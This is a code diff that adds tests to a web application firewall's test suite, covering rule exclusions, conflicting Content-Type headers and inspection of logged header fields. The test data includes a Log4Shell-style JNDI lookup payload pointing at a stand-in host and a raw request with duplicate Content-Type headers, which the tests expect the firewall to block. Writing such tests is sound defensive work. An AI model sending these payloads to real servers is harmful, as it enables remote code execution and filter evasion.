@@ -9,6 +9,7 @@ import type { ConfigInput } from '../../config/schema/config.ts';
 import { validate } from '../../config/validate.ts';
 import { checkLinearRegex } from '../../io/regex.ts';
 import { planeTo, startPlane, type TestPlane } from '../../../test/support/data-plane.ts';
+import { looksComplete, rawExchange } from '../../../test/support/raw-exchange.ts';
 
 type Filters = NonNullable<ConfigInput['filters']>;
 interface World extends AsyncDisposable {
@@ -215,6 +216,29 @@ describe('a firewall', () => {
       await using origin = await behind([{ waf: options }]);
       assert.equal((await ask(origin, { path })).status, status, JSON.stringify(options));
     }
+  });
+
+  test('has not seen that a program is harmless where it was told to look past it', async () => {
+    await using origin = await behind([{ waf: { exclude: [{ rules: 4500, path: '/hook' }] } }]);
+    const headers = { 'User-Agent': '${jndi:ldap://x.example/a}' };
+    const statuses = [];
+    for (const path of ['/hook', '/', '/hook', '/']) statuses.push((await ask(origin, { path, headers })).status);
+    assert.deepEqual(statuses, [200, 403, 200, 403]);
+  });
+
+  test('refuses content of two types, of which each reader takes another', async () => {
+    await using origin = await behind(['waf']);
+    const request =
+      'POST / HTTP/1.1\r\nHost: a.example\r\nUser-Agent: x\r\nContent-Type: image/png\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 3\r\n\r\na=1';
+    const { text } = await rawExchange(origin.world.port, request, { until: (seen) => looksComplete(seen, 'open') });
+    assert.match(text, /^HTTP\/1\.1 40[03] /);
+    assert.deepEqual(origin.seen, []);
+  });
+
+  test('looks at every field that an application may log', async () => {
+    await using origin = await behind(['waf']);
+    for (const name of ['Accept-Language', 'Content-Type', 'If-Modified-Since', 'Accept-Encoding'])
+      assert.equal((await ask(origin, { headers: { [name]: '${jndi:ldap://x.example/a}' } })).status, 403, name);
   });
 
   test('answers with the status that is wanted', async () => {
